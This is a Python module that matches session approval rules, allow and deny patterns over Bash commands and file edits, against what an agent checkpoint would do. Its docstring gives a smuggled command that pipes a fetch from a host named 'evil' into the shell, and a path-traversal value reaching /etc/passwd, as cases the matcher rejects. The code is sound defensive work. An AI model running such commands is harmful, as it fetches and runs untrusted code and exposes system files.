"""Approval rules: "for the rest of this session, answer checkpoints like this one".

A rule is an effect (allow or deny) and a Claude-style pattern over what a
checkpoint would do (its preview's tool and subject)::

    Bash                  every Bash command
    Bash(npm test*)       commands that start with "npm test"
    Bash(npm:*)           "npm", or "npm" and arguments (Claude Code's prefix form)
    Edit(src/**)          edits of files under src/ (relative to the session's cwd)
    Edit(/etc/hosts)      an absolute path
    WebFetch(https://example.com/*)

Invariants (each has a hypothesis test in tests/unit/test_approval_rules.py):
- **Deny wins.** :func:`verdict` returns a matching deny rule whenever there is one,
  whatever allow rules also match.
- **An allow never reaches past what it says.** In a Bash allow rule ``*`` never spans
  a shell operator (``; & | ` $ ( ) < >`` or a newline), so ``Bash(npm test*)`` does
  not allow ``npm test && curl evil | sh``. A deny rule is matched against the whole
  command and against each piece between operators, so ``Bash(rm*)`` also stops
  ``make && rm -rf build``. Both err on the side of asking a person.
- **Paths are normalised before matching** (``src/../../etc/passwd`` is not under
  ``src/``), relative patterns match only inside the session's cwd, and ``*``
  does not cross ``/`` (``**`` does).
- ``Edit(...)`` covers every file-editing tool (``Edit``, ``MultiEdit``, ``Write``,
  ``NotebookEdit``), as in Claude Code; other tool names match exactly.
- A checkpoint without a tool (``starmux checkpoint "Deploy?"``) matches no rule.

Pure: patterns and subjects in, a rule (or None) out.
"""

from __future__ import annotations

import enum
import posixpath
import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import cached_property

from .errors import UsageError

MAX_PATTERN = 1024
EDIT_TOOLS = frozenset({"Edit", "MultiEdit", "Write", "NotebookEdit"})
#: Tools whose subject is a file path (matched as a path, not as text).
PATH_TOOLS = EDIT_TOOLS | {"Read"}
SHELL_OPERATORS = frozenset(";&|`$()<>\n\r")
_TOOL = re.compile(r"[A-Za-z][A-Za-z0-9_]{0,63}")
_SPLIT = re.compile(r"&&|\|\||[;&|\n\r]")
#: A command word a default rule may keep as its prefix.
_WORD = re.compile(r"[A-Za-z0-9_./+=:@%,-]+")


class Effect(enum.StrEnum):
    ALLOW = "allow"
    DENY = "deny"


class BadPattern(UsageError):
    """A rule pattern that does not parse."""


@dataclass(frozen=True)
class Subject:
    """What a checkpoint would do: the tool, its command or file path, and the cwd."""

    tool: str
    text: str
    cwd: str = ""


@dataclass(frozen=True)
class RulePattern:
    tool: str
    spec: str | None  # None: every use of the tool

    @classmethod
    def parse(cls, text: str) -> RulePattern:
        # Printable as given, then blanks trimmed: the same rule the web controller
        # mirrors (web/proto/codec.js), where Unicode "whitespace" differs.
        if not text.isprintable() or not text.strip(" ") or len(text) > MAX_PATTERN:
            raise BadPattern(
                f"a rule pattern is 1-{MAX_PATTERN} printable characters",
                hint="e.g. 'Bash(npm test*)' or 'Edit(src/**)'",
            )
        text = text.strip(" ")
        tool, paren, rest = text.partition("(")
        if not _TOOL.fullmatch(tool):
            raise BadPattern(
                f"{text[:60]!r} does not start with a tool name",
                hint="e.g. 'Bash(npm test*)', 'Edit(src/**)' or just 'Bash'",
            )
        if not paren:
            return cls(tool, None)
        if not rest.endswith(")") or not rest[:-1]:
            raise BadPattern(
                f"{text[:60]!r}: the part in parentheses is empty or not closed",
                hint="write TOOL(PATTERN), e.g. 'Bash(npm test*)'",
            )
        return cls(tool, rest[:-1])

    def __str__(self) -> str:
        return self.tool if self.spec is None else f"{self.tool}({self.spec})"

    def covers_tool(self, tool: str) -> bool:
        if self.tool == "Edit":
            return tool in EDIT_TOOLS
        return tool == self.tool

    @cached_property
    def _path_regex(self) -> re.Pattern[str]:
        return re.compile(_path_glob(self.spec or ""))

    def _text_regex(self, effect: Effect) -> re.Pattern[str]:
        spec = self.spec or ""
        star = "[^" + re.escape("".join(sorted(SHELL_OPERATORS))) + "]*"
        if effect is Effect.DENY:
            star = ".*"
        if spec.endswith(":*"):  # Claude Code's prefix form: the word, then anything
            head = re.escape(spec[:-2])
            return re.compile(f"{head}(?: {star})?", re.S)
        parts = [re.escape(piece) for piece in spec.split("*")]
        return re.compile(star.join(parts), re.S)

    def matches(self, subject: Subject, effect: Effect) -> bool:
        if not subject.tool or not self.covers_tool(subject.tool):
            return False
        if self.spec is None:
            return True
        if subject.tool in PATH_TOOLS:
            path = _normal_path(subject.text, subject.cwd, absolute=self.spec.startswith("/"))
            return path is not None and self._path_regex.fullmatch(path) is not None
        regex = self._text_regex(effect)
        command = subject.text.strip()
        if regex.fullmatch(command):
            return True
        if effect is Effect.DENY:  # a deny also stops it inside a compound command
            return any(regex.fullmatch(piece.strip()) for piece in _SPLIT.split(command))
        return False


@dataclass(frozen=True)
class Rule:
    id: str
    pattern: RulePattern
    effect: Effect
    set_by: bytes  # the device that set it


def verdict(rules: Iterable[Rule], subject: Subject) -> Rule | None:
    """The rule that answers ``subject``: a matching deny if any (deny wins), else
    the first matching allow, else None (a person decides)."""
    allow: Rule | None = None
    for rule in rules:
        if rule.pattern.matches(subject, rule.effect):
            if rule.effect is Effect.DENY:
                return rule
            allow = allow or rule
    return allow


def default_pattern(subject: Subject) -> RulePattern:
    """The rule ``approve --for-session`` makes without ``--rule``: the same tool and
    the command's prefix (its program and subcommand), or the same file."""
    if not subject.tool:
        raise BadPattern(
            "this checkpoint names no tool, so no rule can match it",
            hint="approve it once (without --for-session)",
        )
    if not _TOOL.fullmatch(subject.tool):
        raise BadPattern(f"the tool name {subject.tool[:40]!r} cannot be used in a rule")
    tool = "Edit" if subject.tool in EDIT_TOOLS else subject.tool
    text = subject.text.strip()
    if not text:
        return RulePattern(tool, None)
    if subject.tool in PATH_TOOLS:
        path = _normal_path(text, subject.cwd, absolute=False)
        path = path if path is not None else _normal_path(text, subject.cwd, absolute=True)
        if path is None or any(ch in path for ch in "*?()") or not path.isprintable():
            raise BadPattern("no default rule for this path", hint="pass --rule 'Edit(PATH)'")
        return RulePattern(tool, path)
    if subject.tool == "Bash":
        words = text.split()
        keep = [w for w in words[:2] if _WORD.fullmatch(w) and not w.startswith("-")]
        if not keep or keep[0] != words[0]:
            raise BadPattern(
                "no default rule for this command (its first word is not a plain name)",
                hint="pass --rule 'Bash(PREFIX*)'",
            )
        if len(keep) == 2 and keep[1] != words[1]:
            keep = keep[:1]
        return RulePattern(tool, " ".join(keep) + "*")
    if any(ch in text for ch in "*()") or not text.isprintable() or len(text) > MAX_PATTERN:
        raise BadPattern("no default rule for this checkpoint", hint="pass --rule")
    return RulePattern(tool, text)


def _normal_path(path: str, cwd: str, *, absolute: bool) -> str | None:
    """``path`` normalised: absolute (joined to ``cwd`` if relative), or relative to
    ``cwd`` (None when it lies outside ``cwd``)."""
    if "\0" in path:
        return None
    full = posixpath.normpath(posixpath.join(cwd or "/", path))
    if absolute:
        return full
    if not cwd:
        return None
    base = posixpath.normpath(cwd)
    if full == base or not full.startswith(base.rstrip("/") + "/"):
        return None
    return full[len(base.rstrip("/")) + 1 :]


def _path_glob(spec: str) -> str:
    """A path glob as a regex: ``**`` any number of segments, ``*`` and ``?`` within
    one segment, everything else literal."""
    folder = spec.endswith("/")
    spec = posixpath.normpath(spec)
    if folder and not spec.endswith("/"):  # ("/" itself normalises to "/")
        spec += "/"
    out = []
    index = 0
    while index < len(spec):
        if spec.startswith("**/", index):
            out.append("(?:[^/]*/)*")
            index += 3
        elif spec.startswith("**", index):
            out.append(".*")
            index += 2
        elif spec[index] == "*":
            out.append("[^/]*")
            index += 1
        elif spec[index] == "?":
            out.append("[^/]")
            index += 1
        else:
            out.append(re.escape(spec[index]))
            index += 1
    if folder:  # a folder: everything in it
        out.append(".*")
    return "".join(out)
